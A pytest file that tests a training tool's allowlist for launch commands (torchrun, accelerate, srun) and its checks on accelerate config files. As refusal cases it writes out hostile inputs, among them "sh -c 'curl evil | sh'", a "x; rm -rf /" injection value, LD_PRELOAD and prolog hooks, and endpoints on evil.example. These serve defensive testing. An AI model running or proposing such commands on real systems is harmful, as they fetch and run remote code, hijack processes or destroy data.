"""What ``train.launch`` may start: launchers by name, nothing else but what the user's environment says."""

from __future__ import annotations

import os
import sys
from pathlib import Path

import pytest
from pydantic import ValidationError

from selfreward_bench.config import TrainConfig
from selfreward_bench.errors import ConfigError
from trainers.commands import VARIABLE, command_line, problems, require

SRUN = ["srun", "-N4", "--ntasks-per-node=1", "--kill-on-bad-exit=1"]
TORCHRUN = [sys.executable, "-m", "torch.distributed.run"]


def line(launch: str) -> list[str] | None:
    return command_line(TrainConfig(launch=launch), devices=1)


@pytest.fixture(autouse=True)
def environment(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv(VARIABLE, raising=False)
    monkeypatch.setenv("HEAD", "node7")


@pytest.mark.parametrize(
    ("launch", "words"),
    [
        ("torchrun --nproc-per-node 8", [*TORCHRUN, "--nproc-per-node", "8"]),
        ("torchrun --nproc_per_node=8 --standalone", [*TORCHRUN, "--nproc_per_node=8", "--standalone"]),
        ("python -m torch.distributed.run --nnodes 2", [*TORCHRUN, "--nnodes", "2"]),
        (
            "torchrun --rdzv-backend c10d --rdzv-endpoint $HEAD:29500 --max-restarts 3",
            [*TORCHRUN, "--rdzv-backend", "c10d", "--rdzv-endpoint", "node7:29500", "--max-restarts", "3"],
        ),
        ("torchrun --rdzv-endpoint=localhost:0", [*TORCHRUN, "--rdzv-endpoint=localhost:0"]),
        (
            "accelerate launch --num_processes 8 --multi_gpu",
            [sys.executable, "-m", "accelerate.commands.launch", "--num_processes", "8", "--multi_gpu"],
        ),
        (
            "srun -N4 --ntasks-per-node=1 --kill-on-bad-exit=1 torchrun --nnodes 4 --rdzv-endpoint ${HEAD}:1",
            [*SRUN, *TORCHRUN, "--nnodes", "4", "--rdzv-endpoint", "node7:1"],
        ),
    ],
)  # fmt: skip
def test_launchers_that_are_known_are_taken(launch: str, words: list[str]) -> None:
    assert line(launch) == words


@pytest.mark.parametrize(
    "launch",
    [
        "sh -c 'curl evil | sh'",
        "torchrun evil.py",
        "torchrun -m evil",
        "torchrun --no-python ./evil",
        "torchrun --nproc-per-node 2 evil.py",
        "torchrun --nproc-per-node 2 --run-path",
        "torchrun --log-dir /home/me",
        "torchrun --logs-specs evil",
        "torchrun --rdzv-conf store_type=file",
        "torchrun --nproc 2",
        "torchrun --rdzv-backend c10d --rdzv-endpoint evil.example:29500",
        "torchrun --rdzv_endpoint=10.0.0.7:29500",
        "torchrun --rdzv-endpoint $HEAD.evil.example:1",
        "torchrun --master-addr evil.example",
        "python evil.py",
        "python -m evil",
        "python -c 1",
        "./torchrun",
        "accelerate launch evil.py",
        "accelerate test",
        "srun evil",
        "srun --prolog=evil torchrun",
        "srun --task-prolog evil torchrun",
        "srun --export=LD_PRELOAD=evil.so torchrun",
        "srun -N 2",
        "env X=1 torchrun",
    ],
)
def test_everything_else_is_refused_unless_the_user_says_so(launch: str, monkeypatch: pytest.MonkeyPatch) -> None:
    with pytest.raises(ConfigError, match=rf"train\.launch: .*export {VARIABLE}="):
        line(launch)
    monkeypatch.setenv(VARIABLE, launch + " ")
    with pytest.raises(ConfigError):
        line(launch)
    monkeypatch.setenv(VARIABLE, launch)
    assert line(launch)


#: as `accelerate config` writes it
CONFIG = """
compute_environment: LOCAL_MACHINE
debug: false
distributed_type: FSDP
downcast_bf16: 'no'
fsdp_config: {fsdp_version: 2, fsdp_state_dict_type: FULL_STATE_DICT}
gpu_ids: all
machine_rank: 0
main_training_function: main
mixed_precision: bf16
num_machines: 1
num_processes: 8
rdzv_backend: static
same_network: true
tpu_env: []
tpu_use_cluster: false
use_cpu: false
"""


@pytest.mark.parametrize("option", ["--config_file {}", "--config-file={}", "--config_file $WHERE/config.yaml"])
def test_a_config_file_of_accelerate_is_taken(option: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    file = tmp_path / "config.yaml"
    file.write_text(CONFIG)
    monkeypatch.setenv("WHERE", str(tmp_path))
    words = line(f"accelerate launch {option.format(file)} --num_processes 2")
    assert words
    assert words[1:3] == ["-m", "accelerate.commands.launch"]
    assert words[-3].endswith(str(file))


@pytest.mark.parametrize(
    ("more", "told"),
    [
        ("distributed_type: DEEPSPEED", "distributed_type"),
        ("deepspeed_config: {deepspeed_hostfile: evil}", "deepspeed_config"),
        ("mpirun_config: {mpirun_hostfile: evil}", "mpirun_config"),
        ("compute_environment: AMAZON_SAGEMAKER", "compute_environment"),
        ("command_file: evil", "command_file"),
        ("commands: [evil]", "commands"),
        ("tpu_use_sudo: true", "tpu_use_sudo"),
        ("main_process_ip: evil.example", "main_process_ip"),
        ("gpu_ids: {training_script: evil.py}", "gpu_ids"),
        ("dynamo_config: evil", "dynamo_config"),
        ("1: 2", "1"),
    ],
)
def test_a_config_file_that_could_start_something_else_is_refused(more: str, told: str, tmp_path: Path) -> None:
    (tmp_path / "evil.yaml").write_text(f"{CONFIG}{more}\n")
    with pytest.raises(ConfigError, match=rf"evil\.yaml says {told}, by which .*export {VARIABLE}="):
        line(f"accelerate launch --config_file {tmp_path / 'evil.yaml'}")


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (None, "cannot be read as YAML"),
        ("a: [", "cannot be read as YAML"),
        ("[" * 9000, "cannot be read as YAML"),
        ("- 1", "is no config file of accelerate"),
        ("#" * 70_000, "has more than 65,536 bytes"),
    ],
)
def test_what_is_no_config_file_is_told(content: str | None, told: str, tmp_path: Path) -> None:
    if content is not None:
        (tmp_path / "x.yaml").write_text(content)
    with pytest.raises(ConfigError, match=rf"train\.launch: .*x\.yaml {told}"):
        line(f"accelerate launch --config_file {tmp_path / 'x.yaml'}")


def test_a_pipe_is_no_config_file_and_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "x.yaml")
    with pytest.raises(ConfigError, match=r"x\.yaml is no file"):
        line(f"accelerate launch --config_file {tmp_path / 'x.yaml'}")


def test_no_shell_reads_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HEAD", "x; rm -rf /")
    monkeypatch.setenv(VARIABLE, "start '$HEAD' > file")
    assert line("start '$HEAD' > file") == ["start", "x; rm -rf /", ">", "file"]


@pytest.mark.parametrize(
    ("launch", "text"),
    [
        ("torchrun '", "is no command line"),
        ("  ", "is empty"),
        ("torchrun --rdzv-endpoint $NOWHERE:1", r"names \$NOWHERE, and no environment variable"),
        ("torchrun --nproc-per-node", "--nproc-per-node needs a value"),
        ("torchrun --nproc-per-node --standalone", "--nproc-per-node needs a value"),
    ],
)
def test_what_is_no_command_is_told(launch: str, text: str) -> None:
    with pytest.raises(ConfigError, match=text):
        require(TrainConfig(launch=launch))


def test_a_program_that_is_not_there_is_told(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv(VARIABLE, "no-such-launcher --all")
    assert list(problems(TrainConfig(launch="no-such-launcher --all"))) == [
        "train.launch: there is no program 'no-such-launcher'."
    ]
    assert list(problems(TrainConfig())) == []


def test_auto_takes_every_device_and_one_needs_no_launcher() -> None:
    started = command_line(TrainConfig(launch="auto"), devices=4)
    assert started
    assert started[:3] == TORCHRUN
    assert started[-2:] == ["--nproc-per-node", "4"]
    assert command_line(TrainConfig(launch="auto"), devices=1) is None
    two = command_line(TrainConfig(launch="auto", processes=2), devices=1)
    assert two
    assert two[-1] == "2"


def test_processes_need_something_that_starts_them() -> None:
    with pytest.raises(ValidationError, match="set launch"):
        TrainConfig(processes=8)
    assert command_line(TrainConfig(processes=1), devices=8) is None
